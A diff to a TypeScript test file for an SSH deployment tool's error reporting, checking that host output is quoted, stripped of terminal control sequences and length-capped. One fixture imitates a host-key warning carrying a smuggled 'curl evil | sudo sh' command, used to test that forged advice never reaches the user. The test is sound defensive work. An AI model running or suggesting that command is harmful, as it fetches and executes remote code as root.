@@ -1,8 +1,9 @@
 import test from 'ava'
 import { hostTrouble, sshTrouble } from '../../../src/ui/ssh/trouble.ts'
 
-const of = (stderr: string, exit: number | null = 1, stdout = '') =>
-  hostTrouble({ exit, stdout, stderr }, 'copying')
+const of = (stderr: string, exit: number | null = 1, stdout = '', ssh = '') =>
+  hostTrouble({ exit, stdout, stderr, ssh }, 'copying')
+const ofSsh = (ssh: string, stderr = '', host = 'web1') => sshTrouble({ ssh, stderr }, [], host)
 const error = (fields: object) => `${JSON.stringify({ error: fields })}\n`
 
 /** What a host says, and what is made of it. */
@@ -17,28 +18,34 @@ const cases: readonly (readonly [
     'an error of rsm',
     `sudo: unable to resolve host web1\n${error({ exit: 3, message: 'no root', hint: 'use sudo' })}`,
     3,
-    'no root',
-    'use sudo',
+    'the host says: "no root"',
+    'the host advises:\n> use sudo',
   ],
   [
     'an error that is no text',
     '{"error":{"message":{}}}',
     1,
-    'it ended while copying: {"error":{"message":{}}}',
+    'it ended while copying: the host says: "{"error":{"message":{}}}"',
     null,
   ],
-  ['a hint that is none', error({ exit: 'x', message: 'm', hint: 7 }), 1, 'm', null],
-  ['an exit code of a byte too much', error({ exit: 70_000, message: 'm', hint: null }), 255, 'm', null],
+  ['a hint that is none', error({ exit: 'x', message: 'm', hint: 7 }), 1, 'the host says: "m"', null],
+  [
+    'an exit code of a byte too much',
+    error({ exit: 70_000, message: 'm', hint: null }),
+    255,
+    'the host says: "m"',
+    null,
+  ],
   [
     'control sequences',
-    error({ exit: 6, message: 'a\u001b[31mb\nc', hint: 'd\u001b]0;x\u0007e' }),
+    error({ exit: 6, message: 'a\u001b[31mb\nc', hint: 'd\u001b]0;x\u0007e\nf' }),
     6,
-    'ab c',
-    'de',
+    'the host says: "ab c"',
+    'the host advises:\n> de\n> f',
   ],
-  ['half an error', '{"error":{"exi\n', 1, 'it ended while copying: {"error":{"exi', null],
-  ['no object', '{"error":null}\n', 1, 'it ended while copying: {"error":null}', null],
-  ['the script', 'mkdir: no\nrsm: can not\n', 1, 'can not', null],
+  ['half an error', '{"error":{"exi\n', 1, 'it ended while copying: the host says: "{"error":{"exi"', null],
+  ['no object', '{"error":null}\n', 1, 'it ended while copying: the host says: "{"error":null}"', null],
+  ['the script', 'mkdir: no\nrsm: can not\n', 1, 'the host says: "can not"', null],
   [
     'a sudo that asks, on a host that does not know its name',
     'sudo: unable to resolve host web1: Name or service not known\nsudo: a password is required\n',
@@ -57,7 +64,7 @@ const cases: readonly (readonly [
     'a sudo that knows the user not',
     'deploy is not in the sudoers file.\n',
     1,
-    'deploy is not in the sudoers file.',
+    'the host says: "deploy is not in the sudoers file."',
     null,
   ],
   ['nothing', '', 1, 'it ended while copying: exit 1, and nothing was said', null],
@@ -69,22 +76,47 @@ for (const [what, stderr, exit, said, hint] of cases)
   })
 
 test('a connection that is lost says so in the words of ssh', (t) => {
-  const lost = of('Connection to web1 closed by remote host.\n', 255)
+  const lost = of('a forged line\n', 255, '', 'Connection to web1 closed by remote host.\n')
   t.like(lost, { exit: 255, error: 'it ended while copying: Connection to web1 closed by remote host.' })
   t.like(of('', null), { exit: 1 })
 })
 
 test('that a host closed the connection is said where ssh says nothing else', (t) => {
   const closed = 'Connection closed by 127.0.0.1 port 22'
-  t.like(sshTrouble(`${closed}\n`, [], 'web1'), { exit: 255, error: closed })
-  t.like(sshTrouble(`No more authentication methods\n${closed}\n`, [], 'web1'), {
+  t.like(ofSsh(`${closed}\n`), { exit: 255, error: closed })
+  t.like(ofSsh(`No more authentication methods\n${closed}\n`), {
     error: 'No more authentication methods',
   })
-  t.like(sshTrouble('', [], 'web1'), { error: 'ssh ended and said nothing' })
+  t.like(ofSsh(''), { error: 'ssh ended and said nothing' })
 })
 
 test('a jump whose key is not known is told from a host whose key is not', (t) => {
-  const stderr =
-    'Host key verification failed.\nkex_exchange_identification: Connection closed by remote host\n'
-  t.like(sshTrouble(stderr, [], 'web1'), { exit: 255, error: 'the host key of the jump is not known' })
+  const closed = 'kex_exchange_identification: Connection closed by remote host\n'
+  t.like(ofSsh(closed, 'Host key verification failed.\n'), { error: 'the host key of the jump is not known' })
+})
+
+const changed = `@@@
+WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!
+ssh-keygen -f "/root/.ssh/known_hosts"; curl evil | sudo sh
+Host key verification failed.
+`
+
+test('what a login shell writes is a quotation, and no advice, whatever words of ssh it takes', (t) => {
+  t.deepEqual(ofSsh('', `${changed}a "last" \u001b[2Jword\u009b\n`), {
+    isUnreachable: true,
+    exit: 255,
+    error: 'it ended while logging in: the host says: "a "last" word"',
+    hint: null,
+  })
+  for (const { error: said, hint } of [ofSsh('', changed), of(changed), of(changed, 255)]) {
+    t.regex(said, /the host says: "Host key verification failed\."$/)
+    t.is(hint, null)
+  }
+  t.true(of('x'.repeat(10_000)).error.length < 500)
+})
+
+test('a host key that has changed is told in the words of the ssh here, which knows that nothing was sent', (t) => {
+  const { error: said, hint } = ofSsh(changed.replace('; curl evil | sudo sh', ' -R web1'), 'other words\n')
+  t.regex(said, /^host key changed: .*nothing was sent$/)
+  t.is(hint, 'once you know that it is the right one: ssh-keygen -f "/root/.ssh/known_hosts" -R web1')
 })
